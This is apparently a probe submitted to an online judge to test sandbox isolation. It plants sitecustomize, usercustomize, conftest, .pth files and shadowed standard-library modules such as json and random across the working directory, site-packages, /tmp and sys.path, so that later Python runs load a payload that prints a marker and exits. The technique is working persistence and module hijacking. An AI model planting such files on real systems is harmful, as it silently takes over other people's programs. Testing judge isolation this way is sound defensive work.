# Tries: to leave modules that later Python programs load: sitecustomize, usercustomize, .pth, conftest, __pycache__
# Control: yes
# Problem: sum
# Tests: all
# Verdict: WA
import os
import sys
from contextlib import suppress

payload = "import os\nos.write(1, b'ESCAPED by a module that an earlier run left\\n')\nos._exit(0)\n"
names = ("sitecustomize", "usercustomize", "conftest", "json", "random", "collections", "decimal")
home = os.environ.get("HOME", ".")
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
places = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)), f"{home}/.local/lib/{version}/site-packages"]
if "ONLINE_JUDGE" in os.environ:  # the system of whoever tries this bare is not to be littered
    places += [home, os.environ.get("TMPDIR", "."), "/tmp", "/dev/shm", *sys.path]
for place in places:
    with suppress(OSError):
        os.makedirs(place, exist_ok=True)
    for name in names:
        for path in (f"{place}/{name}.py", f"{place}/__pycache__/{name}.cpython-{version[6:].replace('.', '')}.pyc"):
            with suppress(OSError):
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "x") as file:
                    file.write(payload)
    with suppress(OSError), open(f"{place}/judge-escape.pth", "x") as file:
        file.write("import os; os.write(1, b'ESCAPED by a .pth file')\n")
print(0)
